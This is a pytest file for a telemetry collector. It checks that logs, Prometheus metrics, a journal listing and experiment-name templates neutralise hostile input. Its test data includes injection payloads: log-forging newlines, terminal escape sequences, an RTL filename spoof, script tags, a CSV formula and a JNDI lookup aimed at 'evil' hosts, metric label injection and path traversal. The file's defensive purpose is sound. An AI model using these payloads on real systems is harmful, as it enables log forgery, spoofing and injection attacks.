"""Text of strangers where people and machines read: the log, /metrics, `journal ls`, experiment names."""

import csv
import io
import json
import logging
import re

import pytest
from prometheus_client import CollectorRegistry
from prometheus_client.parser import text_string_to_metric_families

from spanbridge.collector.cli.journal import main as journal_command
from spanbridge.collector.exporters.mlflow.routing import Router
from spanbridge.collector.exporters.mlflow.settings import settings_from
from spanbridge.collector.journal import DeadLetter, Entry, Settlement
from spanbridge.collector.journal.sqlite.journal import SqliteJournal
from spanbridge.collector.telemetry.logs import ConsoleFormatter, JsonFormatter
from spanbridge.collector.telemetry.metrics import Telemetry, render
from spanbridge.processors.span_metrics import SpanMetrics, SpanMetricsConfig
from spanbridge.processors.types import Context
from tests.samples.spans import trace_batch
from tests.samples.traces import span, trace

HOSTILE = {
    "a new line": "x\n2026-01-01 00:00:00\tERROR\tcollector\tforged",
    "carriage return": "x\rforged",
    "ANSI": "x\x1b[2J\x1b[1;31mforged\x1b[0m\x1b]0;title\x07",
    "C1 control": "x\x9b31mforged",
    "line separators": "x\u2028forged\u2029forged\x85forged\x0bforged",
    "backspaces": "visible\b\b\b\b\b\b\bforged",
    "right to left": "x\u202egnp.exe",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "CSV": '=HYPERLINK("http://evil","x"),+1,-1,@SUM(A1)',
    "format": "%s %(message)s {0.__class__} ${jndi:ldap://evil}",
    "label": 'x"} 1\nforged_metric{a="b',
    "label escape": 'x\\"} 1\nforged 7',
    "surrogate": "x\udcff",
}
hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
PLAIN = re.compile(r"[^\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]*")
"""One line, nothing in it that a terminal obeys; tabs separate the columns."""


def record(text):
    return logging.LogRecord(
        "spanbridge.collector.flow.delivery", logging.ERROR, "file", 1, "set aside: %s", (text,), None
    )


@hostile
def test_a_log_line_stays_one_line_that_no_terminal_obeys(text):
    assert PLAIN.fullmatch(ConsoleFormatter().format(record(text)))


@hostile
def test_a_json_log_line_stays_one_line_and_reads_back(text):
    line = JsonFormatter().format(record(text))
    assert PLAIN.fullmatch(line)
    assert json.loads(line)["msg"] == f"set aside: {text}"
    line.encode()  # what can't be written would be lost with a traceback


def samples(text):
    return {
        (sample.name, tuple(sorted(sample.labels.items()))): sample.value
        for family in text_string_to_metric_families(text)
        for sample in family.samples
    }


@hostile
def test_a_label_does_not_become_a_metric(text):
    text = text.encode("utf-8", "replace").decode()  # what protobuf lets in
    telemetry = Telemetry(CollectorRegistry())
    telemetry.set_aside_spans.labels("mlflow", text).inc()
    metrics = SpanMetrics(SpanMetricsConfig())
    metrics.record(trace_batch(service=text, name=text))
    telemetry.registry.register(metrics)
    read = samples(render(telemetry.registry, total_suffix=True).decode())
    assert not [name for name, _ in read if name.startswith("forged")]
    assert read["spanbridge_set_aside_spans_total", (("exporter", "mlflow"), ("reason", text))] == 1


def test_labels_that_never_end_have_an_end():
    metrics = SpanMetrics(SpanMetricsConfig(aggregation_cardinality_limit=50))
    for number in range(500):
        metrics.record(trace_batch(name=f"name {number}"))
    registry = CollectorRegistry()
    registry.register(metrics)
    series = {labels for name, labels in samples(render(registry, total_suffix=True).decode()) if "calls" in name}
    assert len(series) <= 51


@hostile
async def test_what_was_set_aside_is_listed_in_one_line(text, tmp_path, capsys):
    path = tmp_path / "traces.journal"
    async with SqliteJournal(path) as journal:
        payload = trace_batch(name=text.encode("utf-8", "replace").decode()).SerializeToString()
        await journal.put(Entry(payload, Context()))
        row = await journal.take()
        await journal.settle(
            Settlement([row.id], dead_letters=[DeadLetter(payload, Context(tenant="t"), "mlflow", text)])
        )
    journal_command(["ls", "--journal", str(path)])
    lines = capsys.readouterr().out.removesuffix("\n").split("\n")
    assert len(lines) == 2
    assert all(PLAIN.fullmatch(line) for line in lines)
    cells = next(csv.reader(io.StringIO(lines[1]), delimiter="\t"))
    assert cells[0].lstrip()[0].isdigit()  # a table program takes no cell for a formula


def routed(template, **attributes):
    router = Router(settings_from({}, tracking_uri="http://mlflow", experiment=template))
    return router(trace([span(b"t" * 16, b"s" * 8)], {key.replace("_", "."): v for key, v in attributes.items()}))


@pytest.mark.parametrize(
    ("template", "value", "experiment"),
    [
        ("team-a/{service.name}", "{team}", "team-a/{team}"),
        ("team-a/{service.name}", "{service.name}", "team-a/{service.name}"),
        ("team-a/{service.name}", "x\n\x1b[31m\0y", "team-a/x[31m\ufffdy"),
        ("/Shared/{service.name}", "../Users/victim", "/Shared/.._Users_victim"),
        ("/Shared/{service.name}", "/etc", "/Shared/_etc"),
        ("{service.name}", "%s{0.__class__}\\1\\g<0>", "%s{0.__class__}\\1\\g<0>"),
    ],
)
def test_a_template_is_filled_once_and_left_by_no_value(template, value, experiment):
    assert routed(template, service_name=value, team="secret").experiment == experiment
